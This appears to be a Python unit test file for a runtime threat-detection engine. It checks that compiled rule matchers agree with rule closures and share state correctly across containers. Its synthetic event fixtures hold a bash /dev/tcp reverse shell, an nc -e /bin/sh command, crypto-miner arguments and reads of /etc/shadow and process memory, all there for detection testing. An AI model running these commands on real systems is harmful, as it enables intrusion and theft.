"""roxd/rules/codegen.py: the rules in scope as one compiled function answer exactly as the
rules' closures do (issue 22), are shared by containers with the same rules in scope, are
new with every rule set, and fall back to the closures when the source does not compile."""

from __future__ import annotations

import dataclasses
import fnmatch
import itertools
import re
from pathlib import Path

import pytest

from roxd.model import (
    Ancestor,
    BaselineFacts,
    ConnectEvent,
    Container,
    EnrichedEvent,
    ExecEvent,
    FileEvent,
    Process,
    SyscallEvent,
)
from roxd.rules import codegen
from roxd.rules.active import ActiveRules
from roxd.rules.fields import EventView
from tests.unit.test_rules_engine import box, exe_event, hits, load, rule

pytestmark = pytest.mark.unit

PACK = Path(__file__).resolve().parents[2] / "rules"


def test_plain_globs_test_as_fnmatch_does() -> None:
    patterns = ["*/.*", "*", "**", "/tmp/*", "*.sh", "*go-build*", "exact", "", "*'q\"*",
                "/usr/lib/git-core/*", "a*b", "?x", "[ab]*"]
    texts = ["", "/", "/.x", "/a/.b/c", "/tmp/x", "/tmp", "run.sh", "x.sh\n", "exact",
             "exactly", "/tmp/go-build123/x", "it's \"q\"", "a\nb", "ab", "/usr/lib/git-core/git"]
    for pattern in patterns:
        plain = codegen._plain_glob(pattern)
        if plain is None:
            assert any(c in pattern for c in "?[") or "*" in pattern.strip("*")
            continue
        regex = re.compile(fnmatch.translate(pattern))
        for text in texts:
            assert bool(eval(plain, {"_x": text})) == bool(regex.match(text)), (pattern, text)


def _events() -> list[EnrichedEvent]:
    """A spread of execs, connects, file accesses and syscalls, on the host and in a
    container, with and without baseline and drift facts."""
    web = Container("c" * 64, "docker", "web", "nginx:1.25", labels={"tier": "front"})
    facts = (None, BaselineFacts("web", "enforce", "anomaly", 5, 3, 1),
             BaselineFacts("web", "learn", "learning", None, 3, 1))
    chains = ((), (Ancestor(10, "/usr/bin/make", ("make",)),),
              (Ancestor(10, "/bin/bash", ("bash",)), Ancestor(9, "/usr/bin/python3", ("python3",
                                                                                   "app.py"))))
    out = []
    exes = ("/bin/sh", "/bin/busybox", "/usr/bin/python3", "/tmp/x", "/dev/shm/.x/y",
            "/usr/bin/xmrig", "/home/u/invoice.pdf", "/usr/bin/nc", "/usr/bin/curl", "/bin/dd")
    argvs = ((), ("-c", "id"), ("-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
             ("-o", "stratum+tcp://pool:3333"), ("if=/proc/12/mem",), ("/tmp/run.sh",),
             ("holiday.png",), ("sh",), ("-e", "/bin/sh", "10.0.0.1", "4444"))
    for exe, args, chain, where, fact, drift in itertools.product(
            exes, argvs, chains, (None, web), facts, (None, "new", "none", "modified")):
        if (fact is not None or drift is not None) and where is None:
            continue
        argv = (exe.rpartition("/")[2] if exe.endswith("busybox") and args else exe, *args)
        ev = ExecEvent(1, 20, 10, 0, 0, 5, "x", exe, argv, False,
                       fileless=exe.startswith("/dev/shm"))
        proc = Process(20, 10, 0, exe, "x", argv, 5, False, chain, 1 if not args else 7,
                       "exec" if where else None)
        out.append(EnrichedEvent(ev, where, proc, fact, drift,
                                 "new" if drift == "new" and args else None))
    proc = Process(30, 10, 1000, "/usr/bin/curl", "curl", ("curl", "x"), 5, False,
                   chains[2], 8, None)
    for where, (daddr, dport) in itertools.product(
            (None, web), (("10.0.0.1", 4444), ("169.254.169.254", 80), ("1.1.1.1", 3333),
                          ("::ffff:8.8.8.8", 53), ("127.0.0.1", 22))):
        ev = ConnectEvent(1, 30, 30, 1000, 5, "curl", "ipv4", daddr, dport, 0, protocol="tcp")
        out.append(EnrichedEvent(ev, where, proc))
    for where, (path, op, access) in itertools.product(
            (None, web), (("/etc/shadow", "open", ("read",)), ("/etc/passwd", "open", ("write",)),
                          ("/root/.ssh/authorized_keys", "open", ("write",)),
                          ("/etc/cron.d/x", "creat", ("write",)), ("/var/log/wtmp", "unlink",
                                                                     ("delete",)))):
        ev = FileEvent(1, 30, 0, 5, "curl", op, path, access, resolved=path)
        out.append(EnrichedEvent(ev, where, proc))
    for where, (name, args) in itertools.product(
            (None, web), (("ptrace", {"request": "PTRACE_ATTACH", "flags": "PTRACE_ATTACH"}),
                          ("mount", {"path": "/host", "fstype": "proc", "source": "proc"}),
                          ("unshare", {"flags": "CLONE_NEWUSER|CLONE_NEWNS"}),
                          ("bpf", {"cmd": "BPF_PROG_LOAD", "flags": "BPF_PROG_LOAD"}))):
        ev = SyscallEvent(1, 30, 0, 5, "curl", name, 0, args)
        out.append(EnrichedEvent(ev, where, proc))
    return out


def test_the_shipped_pack_answers_as_its_closures_on_every_kind_of_event() -> None:
    pack = ActiveRules([PACK]).load()
    seen: set[str] = set()
    events = _events()
    for ev in events:
        view = EventView.of(ev)
        basename = view.exe_basename if ev.kind == "exec" else None
        rules = pack.in_scope(ev.kind, basename, ev.container)
        by_closures = [m.rule.id for m in codegen.loop(rules)(EventView.of(ev))]
        compiled = [m.rule.id for m in pack.match(ev)]
        assert compiled == by_closures, (ev.kind, ev.process.args, ev.container is not None)
        seen.update(compiled)
    assert len(events) > 500 and len(seen) > 25  # the spread reaches many rules


def test_an_eager_exec_view_reads_as_the_lazy_one() -> None:
    for ev in _events():
        if ev.kind != "exec":
            continue
        eager = EventView.of(ev)
        lazy = EventView(ev.event, ev.process, ev.container, ev.baseline, ev.drift,
                         ev.script_drift)
        for name in ("exe", "args", "argv0", "params", "cmdline", "filename", "exe_basename"):
            assert getattr(eager, name) == getattr(lazy, name), name


SCOPED = rule("t.nc-in-web", body="""
    [rule.when]
    exe_basename = "nc"
    [rule.scope]
    image = ["web*"]
    """) + rule("t.tmp", body="""
    [rule.when]
    exe = { glob = "/tmp/*" }
    """)


def test_containers_with_the_same_rules_share_a_matcher_and_a_reload_builds_new_ones(
        tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = load(tmp_path / "a", SCOPED)
    web1, web2 = box(image="web:1"), dataclasses.replace(box(image="web:2"), id="d" * 64)
    db = box(image="postgres:16")
    for container in (web1, web2, db):
        assert hits(first, exe_event(("/tmp/nc",), container=container)) == (
            ["t.tmp"] if container is db else ["t.nc-in-web", "t.tmp"])
    assert first._scoped_entry("exec", "nc", web1)[1] is first._scoped_entry("exec", "nc", web2)[1]
    assert first._scoped_entry("exec", "nc", db)[1] is not first._scoped_entry("exec", "nc",
                                                                                web1)[1]
    second = load(tmp_path / "b", SCOPED.replace('glob = "/tmp/*"', 'glob = "/var/tmp/*"'))
    assert hits(second, exe_event(("/tmp/nc",), container=web1)) == ["t.nc-in-web"]
    assert hits(first, exe_event(("/tmp/nc",), container=web1)) == ["t.nc-in-web", "t.tmp"]
    assert not set(map(id, first._matchers.values())) & set(map(id, second._matchers.values()))


def test_a_source_that_does_not_compile_falls_back_to_the_closures(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    monkeypatch.setattr(codegen, "source", lambda rules: ("def match(v):\n    return (\n", {}))
    rules = load(tmp_path, SCOPED)
    assert hits(rules, exe_event(("/tmp/nc",), container=box(image="web:1"))) == [
        "t.nc-in-web", "t.tmp"]
    assert "matching them one by one" in caplog.text
